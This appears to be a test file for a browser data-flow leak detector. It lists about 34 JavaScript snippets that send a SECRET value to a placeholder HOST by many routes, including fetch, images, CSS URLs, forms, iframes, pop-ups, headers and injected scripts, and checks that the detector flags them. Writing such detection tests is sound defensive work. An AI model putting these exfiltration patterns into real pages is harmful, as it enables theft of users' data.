import { describe, test } from "vitest";
import {
	type DataFlow,
	expectHarmlessOnOwnSite,
	expectHarmlessWithoutSecret,
	expectLeak,
} from "../testing/data-flow-checks.ts";

const FLOWS: readonly DataFlow[] = [
	[
		"an event of its own",
		`addEventListener("zz", (event) => fetch("HOST/" + event.detail)); dispatchEvent(new CustomEvent("zz", { detail: SECRET }));`,
	],
	[
		"sessionStorage",
		`sessionStorage.setItem("x", SECRET); setTimeout(() => fetch("HOST/" + sessionStorage.getItem("x")), 1);`,
	],
	["localStorage as an object", `localStorage.x = SECRET; fetch("HOST/" + localStorage.x);`],
	["window.name", `window.name = SECRET; fetch("HOST/" + window.name);`],
	["a global", `window.jar = SECRET; fetch("HOST/" + jar);`],
	[
		"a global seen from a timer",
		`function read() { globalThis.jar = SECRET; } setTimeout(() => fetch("HOST/" + self.jar), 5); read();`,
	],
	[
		"a data attribute",
		`document.body.setAttribute("data-z", SECRET); setTimeout(() => fetch("HOST/" + document.body.dataset.z), 1);`,
	],
	["a property of an element", `document.body.zz = SECRET; fetch("HOST/" + document.body.zz);`],
	[
		"text of an element of its own",
		`const box = document.createElement("p"); box.textContent = SECRET; document.body.append(box); fetch("HOST/" + box.textContent);`,
	],
	[
		"a custom element",
		`class Box extends HTMLElement { connectedCallback() { fetch("HOST/" + SECRET); } } customElements.define("x-box", Box);`,
	],
	[
		"an attribute of a custom element",
		`class Box extends HTMLElement { static observedAttributes = ["to"]; attributeChangedCallback(_name, _old, text) { fetch("HOST/" + text + SECRET); } } customElements.define("x-box", Box);`,
	],
	[
		"a form of its own",
		`const form = document.createElement("form"); form.action = "HOST/"; form.method = "post"; const field = document.createElement("input"); field.type = "hidden"; field.value = SECRET; form.append(field); document.body.append(form); form.submit();`,
	],
	[
		"a form in markup",
		`document.body.insertAdjacentHTML("beforeend", '<form id="zz" action="HOST/" method="post"><input type="hidden" name="c"></form>'); const form = document.getElementById("zz"); form.elements.c.value = SECRET; form.submit();`,
	],
	["an image in markup", `document.body.insertAdjacentHTML("beforeend", '<img src="HOST/' + SECRET + '">');`],
	["document.write", `document.write('<img src="HOST/' + SECRET + '">');`],
	[
		"a style sheet",
		`const style = document.createElement("style"); style.textContent = "body{background:url(HOST/?" + SECRET + ")}"; document.head.append(style);`,
	],
	["an inline style", `document.body.style.backgroundImage = "url(HOST/" + SECRET + ")";`],
	[
		"a frame",
		`const frame = document.createElement("iframe"); frame.src = "HOST/" + SECRET; document.body.append(frame);`,
	],
	["a pop-up", `open("HOST/?" + SECRET);`],
	[
		"a message to a pop-up",
		`const other = open("HOST/r"); setTimeout(() => other.postMessage({ text: SECRET }, "HOST"), 100);`,
	],
	["an URL object", `const to = new URL("HOST/x"); to.searchParams.set("c", SECRET); fetch(to);`],
	["search parameters", `fetch("HOST/?" + new URLSearchParams({ c: SECRET }));`],
	[
		"FormData of its own",
		`const data = new FormData(); data.append("c", SECRET); fetch("HOST", { method: "POST", body: data });`,
	],
	["headers", `fetch("HOST", { headers: { "x-a": SECRET } });`],
	["a Headers object", `const headers = new Headers(); headers.set("x-a", SECRET); fetch("HOST", { headers });`],
	["a Request object", `fetch(new Request("HOST", { method: "POST", body: SECRET }));`],
	["an observer", `new MutationObserver(() => fetch("HOST/" + SECRET)).observe(document.body, { childList: true });`],
	["a callback of the page", `window.onPage = () => fetch("HOST/" + SECRET);`],
	["a jQuery request", `$.ajax({ url: "HOST", type: "POST", data: { c: SECRET } });`],
	["a javascript: address", `location.href = "javascript:fetch('HOST/' + SECRET)";`],
	[
		"a script of its own",
		`const script = document.createElement("script"); script.textContent = "fetch('HOST/' + SECRET)"; document.head.append(script);`,
	],
	["a comment node", `const note = document.createComment(SECRET); fetch("HOST/" + note.data);`],
	[
		"a template",
		`const box = document.createElement("template"); box.innerHTML = "<p>" + SECRET + "</p>"; fetch("HOST/" + box.innerHTML);`,
	],
	["a clipboard event", `document.addEventListener("copy", (event) => fetch("HOST/" + SECRET));`],
];

describe("data through the page", () => {
	test.each(FLOWS)("%s carries a secret to a stranger", (_title, code) => expectLeak(code));
	test.each(FLOWS)("%s carries nothing when there is nothing to carry", (_title, code) =>
		expectHarmlessWithoutSecret(code),
	);
	test.each(FLOWS)("%s may carry anything on the site itself", (_title, code) => expectHarmlessOnOwnSite(code));
});
